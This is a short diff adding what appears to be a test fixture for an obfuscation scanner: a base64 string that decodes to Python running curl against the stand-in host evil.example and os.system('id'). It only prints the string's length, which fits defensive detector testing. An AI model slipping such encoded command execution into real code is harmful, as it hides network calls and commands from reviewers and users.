@@ -1,0 +1,3 @@
+# expect: obfuscation
+DATA = "aW1wb3J0IG9zCmltcG9ydCBzdWJwcm9jZXNzCnN1YnByb2Nlc3MucnVuKFsiY3VybCIsICJodHRwOi8vZXZpbC5leGFtcGxlIl0pCm9zLnN5c3RlbSgiaWQiKQppbXBvcnQgb3MKaW1wb3J0IHN1YnByb2Nlc3MK"
+print(len(DATA))
